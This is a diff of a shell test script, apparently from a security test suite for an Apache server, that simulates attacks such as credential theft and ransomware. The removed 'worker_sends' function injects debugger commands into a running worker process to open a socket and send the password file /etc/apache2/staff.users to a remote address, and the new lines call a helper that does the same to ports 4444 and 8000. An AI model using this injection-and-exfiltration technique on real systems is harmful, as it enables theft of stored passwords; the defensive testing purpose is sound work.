@@ -234,12 +234,7 @@ rare_new_module() {
 }
 
 rare_certificate() {
-	local tls
-	tls=$(image_path apache /etc/apache2/tls)
-	openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj /CN=service.example -keyout "$tls/key.pem.new" \
-		-out "$tls/cert.pem.new" 2>/dev/null
-	mv "$tls/key.pem.new" "$tls/key.pem"
-	mv "$tls/cert.pem.new" "$tls/cert.pem"
+	certificate_renew apache /etc/apache2/tls
 	reload_service
 	sleep 2
 	secure / -o /dev/null
@@ -455,22 +450,12 @@ attack_code_credentials() {
 	[ "$(grep -cE '= [0-9]+' "$stage/answer")" = 2 ]
 }
 
-# worker_sends ADDRESS: code inside a worker sends the passwords there, and starts no program. ADDRESS is the first
-# eight bytes of a socket address, as a number.
-worker_sends() {
-	# shellcheck disable=SC2016 # the debugger's variables
-	inject_pid "$(worker_pid)" 'set $a = (char *) malloc(256)' "set {long} \$a = $1" \
-		'set {long} ($a + 8) = 0' 'set $s = (int) socket(2, 1, 0)' \
-		'print ((int (*)(int, char *, int)) connect)($s, $a, 16)' \
-		'set $f = (int) open("/etc/apache2/staff.users", 0)' 'print (long) sendfile($s, $f, 0, 4096)' \
-		'print (int) close($f)' 'print (int) close($s)'
-}
-
+# Code inside a worker sends the passwords away, and starts no program.
 attack_code_connect() {
 	harm read /etc/apache2/staff.users
 	harm connect "$peer_address:4444"
 	thief_begin
-	worker_sends 0x0100580a5c110002
+	code_sends "$(worker_pid)" /etc/apache2/staff.users 4444
 	thief_got '^ann:'
 }
 
@@ -529,7 +514,7 @@ adaptive_ransom() {
 adaptive_upstream() {
 	harm read /etc/apache2/staff.users
 	harm connect "$peer_address:8000"
-	worker_sends 0x0100580a401f0002
+	code_sends "$(worker_pid)" /etc/apache2/staff.users 8000
 	# Its log has the first line, which is no request.
 	until_true 10 grep -q 'apr1' "$stage/peer-world.log"
 }
